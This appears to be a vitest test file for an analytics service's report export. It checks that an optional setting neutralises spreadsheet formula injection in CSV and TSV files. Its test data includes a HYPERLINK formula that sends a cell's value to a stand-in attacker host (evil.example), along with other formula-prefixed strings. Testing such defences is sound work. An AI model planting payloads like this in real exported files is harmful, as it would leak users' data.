import { operations } from '@almanac/api'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openApp, type TestApp, type TestClient } from './testing/open-app.ts'

// What a file holds of texts that a spreadsheet would run, by its bytes, through the real engine.

const texts = [
  `=HYPERLINK("https://evil.example?"&A1,"ok")`,
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  ` =1+1`,
  "'=1+1",
  'a=1',
  'ÄÖ',
  '',
]

let house: TestApp
let admin: TestClient
beforeAll(async () => {
  house = await openApp()
  admin = await house.addClient('contoso', ['Admin'])
  const quoted = texts.map((text, index) => `contoso,"${text.replaceAll('"', '""')}",2026-05-01,${-1 - index}`)
  const csv = ['AccountId,OrderId,OrderDate,Amount', ...quoted, 'contoso,,2026-05-01,-99', ''].join('\n')
  const answer = await house.app.inject({
    method: 'POST',
    url: '/admin/datasets/cmp/Orders/versions',
    headers: { authorization: `Bearer ${admin.token}`, 'content-type': 'text/csv' },
    payload: csv,
  })
  if (answer.statusCode !== 200) throw new Error(answer.body)
})
afterAll(() => house.close())

const base = '/insights/v1.1/cmp'

/** The file of a report over all rows, with its manifest and how the report shows itself. */
async function fileOf(fields: object, version: 'v1' | 'v1.1' = 'v1.1') {
  const made = await admin.ask('POST', `${base}/ScheduledQueries`, {
    Name: 'all',
    Query: 'SELECT OrderId, TotalAmount FROM Orders ORDER BY TotalAmount DESC TIMESPAN LIFETIME',
  })
  const [query] = made.json<{ value: { queryId: string }[] }>().value
  const answer = await admin.ask('POST', `/insights/${version}/cmp/ScheduledReport`, {
    ReportName: 'r',
    QueryId: query?.queryId,
    ExecuteNow: true,
    ...fields,
  })
  const [report] = answer.json<{ value: ({ reportId: string } & Record<string, unknown>)[] }>().value
  return { report, ...(await latestFile(report?.reportId ?? '')) }
}

async function latestFile(reportId: string) {
  await house.runDue()
  const executions = await admin.ask('GET', `${base}/ScheduledReport/execution/${reportId}`)
  const [execution] = executions.json<{ value: { executionId: string }[] }>().value
  const location = `${base}/ScheduledReport/artifact/${execution?.executionId}`
  const manifest = (await admin.ask('GET', `${location}/manifest`)).json<Record<string, unknown>>()
  return { manifest, body: (await admin.ask('GET', location)).body }
}

/** A field as files have it. */
const field = (text: string, delimiter: string) =>
  text === '' || /["\r\n#]/.test(text) || text.includes(delimiter) ? `"${text.replaceAll('"', '""')}"` : text
const fileWith = (cells: readonly string[], delimiter = ',') =>
  [
    `OrderId${delimiter}TotalAmount`,
    ...cells.map((text, index) => `${field(text, delimiter)}${delimiter}${-1 - index}`),
    `${delimiter}-99`,
    '',
  ].join('\n')
const disarmed = texts.map((text) => (/^[=+\-@＝＋－＠\t\r\n]/.test(text) ? `'${text}` : text))

test('a report has its texts as they are, unless it asks for something else', async () => {
  const { report, manifest, body } = await fileOf({})
  expect(report).toMatchObject({ neutralizeFormulas: false })
  expect(manifest).toMatchObject({ neutralizedFormulas: false, rows: texts.length + 1 })
  expect(body).toBe(fileWith(texts))
})

test('asked to, it has an apostrophe before each text that a spreadsheet would run; numbers stay numbers', async () => {
  const { report, manifest, body } = await fileOf({ NeutralizeFormulas: true })
  expect(report).toMatchObject({ neutralizeFormulas: true })
  expect(manifest).toMatchObject({ neutralizedFormulas: true, rows: texts.length + 1 })
  expect(disarmed.filter((text, index) => text !== texts[index])).toHaveLength(8)
  expect(body).toBe(fileWith(disarmed))
})

test('tab-separated files and v1 have it too', async () => {
  const { report, body } = await fileOf({ neutralizeformulas: 'True', Format: 'tsv' }, 'v1')
  // v1 shows the documented fields only.
  expect(report).not.toHaveProperty('neutralizeFormulas')
  expect(body).toBe(fileWith(disarmed, '\t'))
})

test('an update changes it for the files to come, and leaves it where it says nothing', async () => {
  const { report } = await fileOf({ NeutralizeFormulas: true })
  const reportId = report?.reportId ?? ''
  const update = (fields: object) => admin.ask('PUT', `${base}/ScheduledReport/${reportId}`, fields)
  expect((await update({ Description: 'd' })).json()).toMatchObject({ value: [{ neutralizeFormulas: true }] })
  expect((await update({ NeutralizeFormulas: null })).json()).toMatchObject({ value: [{ neutralizeFormulas: true }] })
  expect((await update({ NeutralizeFormulas: false })).json()).toMatchObject({ value: [{ neutralizeFormulas: false }] })
  expect((await update({ NeutralizeFormulas: 'perhaps' })).statusCode).toBe(400)
})

test('a preview shows the texts as they are: it is JSON', async () => {
  const exportQuery = 'SELECT OrderId, TotalAmount FROM Orders ORDER BY TotalAmount DESC LIMIT 1 TIMESPAN LIFETIME'
  const answer = await admin.ask(
    'GET',
    `${base}/ScheduledQueries/testQueryResult?${new URLSearchParams({ exportQuery }).toString()}`,
  )
  expect(answer.json()).toMatchObject({ value: [{ OrderId: texts[0] }] })
})

test('the contract has it', () => {
  for (const { body } of [operations.createReport, operations.updateReport])
    expect(Object.keys(body.schema['v1'].properties)).toContain('NeutralizeFormulas')
})
